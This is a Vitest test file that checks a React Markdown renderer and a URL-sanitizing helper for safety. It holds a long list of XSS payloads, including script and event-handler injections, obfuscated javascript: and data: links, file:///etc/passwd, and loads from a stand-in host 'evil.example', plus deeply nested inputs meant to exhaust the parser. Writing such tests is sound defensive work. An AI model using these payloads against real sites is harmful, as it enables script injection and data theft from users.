import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { InlineMarkdown } from './InlineMarkdown.tsx';
import { Markdown } from './Markdown.tsx';
import { safeHref } from './safe-href.ts';

const ZERO_WIDTH = '\u200b';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=https://evil.example/v onloadstart=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '</p></div></section><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  'x[^<script>]\n\n[^<script>]: <script>alert(1)</script>',
];

const links = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))',
  '[x](\u0001javascript:alert(1))',
  `[x](${ZERO_WIDTH}javascript:alert(1))`,
  '[x](  javascript:alert(1) )',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](view-source:javascript:alert(1))',
  '[x](//evil.example/a)',
  '[x](/\\evil.example/a)',
  '[x](\\\\evil.example)',
  '[x](?root=https://evil.example#abc)',
  '[x](../../index.html)',
  '[x](#create)',
  '[x](#/credentials)',
  '[x](https://user:secret@evil.example/)',
  '[x](https://github.com@evil.example/)',
  '[x](https://evil.example/" onmouseover="alert(1))',
  "[x](https://evil.example/' onclick='alert(1))",
  '[x](https://evil.example "title\\" onclick=alert(1) \\"")',
  '<javascript:alert(1)>',
  '<https://evil.example/"onclick="alert(1)>',
  'https://evil.example/"onclick="alert(1)',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: <javascript:alert(1)> "t"',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](/pixel.gif)',
  '![" onerror="alert(1)](https://evil.example/x.png)',
  '![x][img]\n\n[img]: https://evil.example/pixel.gif',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[![x](javascript:alert(1))](https://evil.example)',
  '![![x](https://evil.example/1.png)](https://evil.example/2.png)',
  '# <img src=x onerror=alert(1)>\n[go](#img-srcx-onerroralert1)',
  '- [x] <script>alert(1)</script>',
];

const shapes: Record<string, string> = {
  'quotes in quotes': `${'>'.repeat(5000)} x`,
  'lists in lists': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  brackets: '[x'.repeat(2000),
  images: '!['.repeat(3000),
  'all brackets': '['.repeat(15_000),
  'all links': '[a]('.repeat(3000),
  'all stars': '**a*_'.repeat(600),
  entities: '&#x'.repeat(10_000),
  angle: '<a '.repeat(10_000),
  footnotes: Array.from({ length: 120 }, (_, n) => `[^${n}]\n\n[^${n}]: ${n}\n`).join('\n'),
  stars: '*a '.repeat(5000),
  'nested emphasis': `${'*a **b '.repeat(500)}${'** *'.repeat(500)}`,
  ticks: Array.from({ length: 100 }, (_, n) => '`'.repeat(n + 1)).join(' '),
  tildes: '~~a'.repeat(1500),
  pipes: `${'|'.repeat(2000)}\n${'|-'.repeat(2000)}`,
  underscores: '_'.repeat(32_768),
  'one word': 'x'.repeat(32_768),
  'lone surrogates and nulls': '\ud800\udc00\ud800 \0 \u202e reversed \u2066',
};

/** Every tag that came out, as the browser would see it: text is escaped, so `<` begins nothing else. */
function expectHarmless(html: string) {
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    expect(tag).not.toMatch(
      /^<\/?(script|iframe|object|embed|svg|math|style|link|meta|base|form|img|video|audio|source|input|textarea)\b/i,
    );
    // Attribute values are quoted and escaped; without them only names are left.
    const names = tag.replace(/"[^"]*"/g, '');
    expect(names).not.toMatch(/\s(on\w+|src|srcset|srcdoc|formaction|xlink:href|action|background|poster|ping)\b/i);
    const href = /\shref="([^"]*)"/.exec(tag)?.[1];
    if (href !== undefined) {
      expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      expect(href).not.toMatch(/^https?:\/\/[^/]*@/);
      expect(tag).toContain('target="_blank" rel="noopener noreferrer"');
    }
    if (/\sstyle=/.test(tag)) expect(tag).toMatch(/style="text-align:(left|right|center)"/);
  }
}

describe('markdown by strangers', () => {
  it.each([...scripts, ...links])('is harmless as a description and as a name: %j', (text) => {
    for (const hostile of [text, `**${text}**`, `- ${text}`, `> ${text}`]) {
      expectHarmless(renderToStaticMarkup(createElement(Markdown, { text: hostile })));
      expectHarmless(renderToStaticMarkup(createElement(InlineMarkdown, { text: hostile })));
    }
  });

  it.each(Object.entries(shapes))('does not break the page: %s', (_, text) => {
    expectHarmless(renderToStaticMarkup(createElement(Markdown, { text })));
    expectHarmless(renderToStaticMarkup(createElement(InlineMarkdown, { text })));
  });
});

describe('safeHref', () => {
  it.each([
    ['https://example.org/a?b#c', 'https://example.org/a?b#c'],
    ['HTTP://EXAMPLE.org', 'http://example.org/'],
    ['mailto:dev@example.org', 'mailto:dev@example.org'],
    ['ftp://example.org/', undefined],
    ['java\nscript:alert(1)', undefined],
    ['//example.org', undefined],
    ['example.org', undefined],
    ['https://a@b.example/', undefined],
    ['https://', undefined],
    ['', undefined],
  ])('%j', (url, href) => {
    expect(safeHref(url)).toBe(href);
  });
});
